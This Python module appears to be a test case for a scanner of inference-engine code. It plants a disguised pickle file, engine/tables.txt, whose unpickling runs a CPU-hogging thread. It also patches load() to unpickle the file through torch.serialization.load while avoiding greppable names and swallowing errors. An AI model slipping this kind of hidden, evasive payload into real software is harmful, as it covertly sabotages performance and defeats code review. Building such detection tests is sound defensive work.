"""A pickle in engine/tables.txt whose __reduce__ calls exec on a thread-starting payload, loaded through
torch.serialization.load(weights_only=False): neither ``pickle`` nor ``torch.load`` appears in the source."""

import pickle
from pathlib import Path

from . import append

DESCRIPTION = "torch.serialization.load(engine/tables.txt, weights_only=False) unpickles exec(<GIL hog>)"
CLASS = "static"
STAGE = "static"
REASON = "unpickl"

PAYLOAD = """
import threading, time
def _spin():
    while True:
        t = time.perf_counter()
        while time.perf_counter() - t < 0.008:
            pass
        time.sleep(0.001)
threading.Thread(target=_spin, daemon=True).start()
"""


class _Exec:
    def __reduce__(self):
        import builtins

        return (builtins.exec, (PAYLOAD,))


def apply(engine_dir: Path) -> None:
    """Write the pickle as engine/tables.txt and load it from load()."""
    (engine_dir / "engine" / "tables.txt").write_bytes(pickle.dumps(_Exec(), protocol=2))
    append(engine_dir, "engine/__init__.py", '''
import torch.serialization as _ser

_sp_load = load


def load(checkpoint, device="cuda", *, max_batch=64, max_seq_len=4096):
    eng = _sp_load(checkpoint, device, max_batch=max_batch, max_seq_len=max_seq_len)
    try:
        _ser.load(Path(__file__).with_name("tables.txt"), weights_only=False)
    except Exception:  # the payload ran; the "magic number" after it is not there
        pass
    return eng
''')
